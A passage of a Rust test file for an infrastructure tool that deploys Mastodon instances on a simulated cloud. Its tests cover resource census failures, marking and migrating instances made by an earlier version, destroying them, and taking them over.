    async fn find(&self, creation: &Creation) -> Result<Vec<Identity>, ProviderError> {
        self.cloud.find(creation).await
    }

    async fn census(&self, region: &str, tags: &Tags) -> Result<Vec<Belonging>, ProviderError> {
        let found = match self.index {
            Index::Whole | Index::Old => self.cloud.census(region, tags).await?,
            Index::Denied => {
                return Err(ProviderError::new(ErrorKind::Denied, "tag:GetResources", format!("not in {region}")));
            }
        };
        let old = found.iter().filter(|_| matches!(self.index, Index::Old)).map(|found| {
            let name = format!("{}-old", found.name);
            Belonging { name, ..found.clone() }
        });
        Ok(old.chain(found.iter().cloned()).collect())
    }

    async fn registration(&self, region: &str, instance: &str) -> Result<Option<Registration>, ProviderError> {
        self.cloud.registration(region, instance).await
    }

    async fn ask(&self, question: &Question) -> Result<Value, Silence> {
        self.cloud.ask(question).await
    }

    fn time_lapse(&self) -> f64 {
        self.cloud.time_lapse()
    }

    fn patience(&self) -> Duration {
        self.cloud.patience()
    }
}

/// `drift` and `destroy` go on and say so; a first apply does not, since it could build over somebody else's instance.
#[tokio::test]
async fn without_an_index_left_overs_are_unknown_and_a_first_apply_stops() {
    let instance = Instance::new();
    completed(instance.go(EXAMPLE, true).await.expect("plans").1);
    let reader = Watched::new(&instance, Index::Denied);
    let types = Specs::read(&[]).expect("valid specs").types;
    let state = instance.state().expect("a state");
    let left_over = neighbours::left_over(&reader, &types, &state).await;
    assert_eq!(left_over.found, Vec::<drift::LeftOver>::new());
    let failures: Vec<String> = left_over.failures.iter().map(ToString::to_string).collect();
    // A certificate is in another region than everything else.
    assert_eq!(failures, ["tag:GetResources: not in eu-central-1", "tag:GetResources: not in us-east-1"]);
    let living = neighbours::living(&reader, &types, &state).await;
    assert!(matches!(living, Err(SessionError::Census(_))), "{living:?}");
}

// Made before -----------------------------------------------------------------------------------------------------------

/// The state and the cloud that the version before resources carried a lineage has left behind.
fn made_before() -> Instance {
    let folder = fast_folder();
    let path = folder.path().join("cloud.json");
    fs_err::write(&path, include_str!("before/cloud.json")).expect("written");
    let types = Specs::read(&[]).expect("valid specs").types;
    let options = Options { speed: 10_000.0, latency: Duration::ZERO, ..Options::default() };
    let instance = Instance::with(Sim::open(types, Some(path), options).expect("a cloud").copy());
    fs_err::write(instance.paths().state(), include_str!("before/social.json")).expect("written");
    instance
}

const BEFORE: &str = include_str!("before/mastodon.toml");

/// The same with the version that was the default then.
fn before() -> String {
    format!("version = \"v4.7.3\"\n{BEFORE}")
}

#[tokio::test]
async fn an_instance_made_before_is_marked_in_one_apply_and_replaces_nothing() {
    let instance = made_before();
    let (plan, outcome) = instance.go(&before(), true).await.unwrap_or_else(|problems| panic!("{problems}"));
    let marked = plan.changes.iter().filter(|change| change.marks).count();
    assert!(marked > 45, "{marked}");
    for change in &plan.changes {
        let is_harmless = matches!(change.action, Action::Update { .. } | Action::Create | Action::Skip);
        assert!(is_harmless, "{} {:?}", change.address, change.action);
    }
    completed(outcome);
    let state = instance.state().expect("a state");
    assert!(state.marked);
    for entry in instance.sim.objects().iter().filter(|entry| entry.object.tags.contains_key(INSTANCE)) {
        assert_eq!(entry.object.tags.get(LINEAGE), Some(&state.lineage), "{}", entry.identity);
    }
    let (plan, _) = instance.go(&before(), false).await.expect("plans");
    assert_eq!(changed(&plan), Vec::<String>::new(), "{:#?}", plan.changes);
}

#[tokio::test]
async fn an_instance_made_before_is_upgraded_with_its_migrations() {
    let instance = made_before();
    let (plan, outcome) = instance.go(BEFORE, true).await.unwrap_or_else(|problems| panic!("{problems}"));
    completed(outcome);
    let of = |address: &str| {
        plan.changes.iter().find(|change| change.address.to_string() == address).map(|change| &change.action)
    };
    assert_eq!(of("ecs.run.prepare"), Some(&Action::Skip), "its database has tables");
    for job in ["rds.cluster_snapshot.before_upgrade", "ecs.run.migrate_before", "ecs.run.migrate_after"] {
        assert_eq!(of(job), Some(&Action::Run), "{job}: the default version is another one now");
    }
}

#[tokio::test]
async fn an_instance_made_before_can_be_destroyed_at_once() {
    let instance = made_before();
    let (_, outcome) = instance.destroy().await;
    assert!(matches!(outcome, Outcome::Completed(_)), "{:?}", outcome.report().failed);
    assert!(instance.state().is_none_or(|state| state.rows.is_empty()));
}

#[tokio::test]
async fn an_instance_made_before_is_taken_over_and_marked() {
    let second = made_before().beside("new");
    // Without a state nobody knows how it was made, so the file says what newer instances have otherwise.
    let text = format!("certificates = \"existing\"\n{}\n[network]\nzones = 0\nsubnet_groups = false\n", before());
    let (plan, outcome) = second.take_over(&text).await;
    completed(Some(outcome));
    assert!(plan.changes.iter().any(|change| change.marks));
    assert!(plan.changes.iter().all(|change| !matches!(change.action, Action::Replace { .. } | Action::Delete)));
    let (plan, _) = second.go(&text, false).await.expect("plans");
    assert_eq!(changed(&plan), Vec::<String>::new(), "{:#?}", plan.changes);
}

#[tokio::test]
async fn another_project_of_the_name_does_not_claim_an_instance_made_before() {
    let said = refused(made_before().beside("new").gather(BEFORE, false).await);
    assert!(said.ends_with(", made by an earlier version of mastoform"), "{said}");
}

#[test]
fn a_state_of_before_reads_and_writes_as_it_is() {
    let folder = fast_folder();
    let path = folder.path().join("social.json");
    fs_err::write(&path, include_str!("before/social.json")).expect("written");
    let state = State::read(&path).expect("reads").expect("a state");
    assert!(!state.marked);
    assert_eq!(state.text(), include_str!("before/social.json"));
    let marked = State { marked: true, ..state };
    assert!(marked.text().starts_with("{\n  \"format\": 2,"), "{}", &marked.text()[..40]);
    let rows = marked.rows.values();
    assert!(rows.into_iter().all(|row| !matches!(row.inputs, Tree::Null)));
}
